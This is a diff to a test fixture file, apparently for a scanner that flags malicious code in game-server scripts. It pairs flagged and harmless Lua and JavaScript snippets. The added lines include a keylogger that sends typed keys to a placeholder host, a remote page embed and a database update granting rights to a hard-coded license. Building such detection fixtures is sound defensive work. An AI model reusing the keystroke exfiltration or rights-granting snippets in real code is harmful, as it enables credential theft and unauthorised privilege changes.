@@ -86,7 +86,7 @@ export const dataFixtures: Fixture[] = [
     `MySQL.query('DELETE FROM players WHERE last_seen < ?', { time })`,
   ),
   lua('stops-server', `if isLate then\n^ while true do end\nend`, `while true do Wait(0) end`),
-  js('stops-server', `^for (;;) {}`, `for (;;) { if (isDone()) break }`),
+  js('stops-server', `^for (;;) {}`, `do { if (isDone()) break } while (true);`),
   lua('process', `^package.loadlib(path, 'open')`, `package.path = path`),
   js('process', `^process.dlopen(module, path)`, `process.emit('done', path)`),
   lua(
@@ -101,6 +101,23 @@ export const dataFixtures: Fixture[] = [
     'page',
   ),
   js('remote-page', `^window.location.href = 'https://a.example'`, `link.href = 'https://a.example'`, 'page'),
+  js(
+    'sends-data',
+    `let typed = ''\ndocument.onkeypress = (event) => {\n  typed += event.key\n^ new Image().src = 'https://a.example/?' + typed\n}`,
+    `document.onkeypress = (event) => show(event.key)\nnew Image().src = 'https://a.example/?' + theme`,
+    'page',
+  ),
+  js(
+    'remote-page',
+    `^app.innerHTML = '<object data="https://a.example/frame"></object>'`,
+    `app.innerHTML = '<object data="frame.html"></object>'`,
+    'page',
+  ),
+  js(
+    'grants-rights',
+    `^exports.oxmysql.execute('UPDATE players SET metadata = ? WHERE license = ?', [data, 'license:0123456789abcdef'])`,
+    `exports.oxmysql.execute('SELECT name FROM players WHERE license = ?', ['license:0123456789abcdef'])`,
+  ),
   js('remote-page', `^location.replace('https://a.example')`, `location.replace('menu.html')`, 'page'),
   js(
     'runs-downloaded-code',
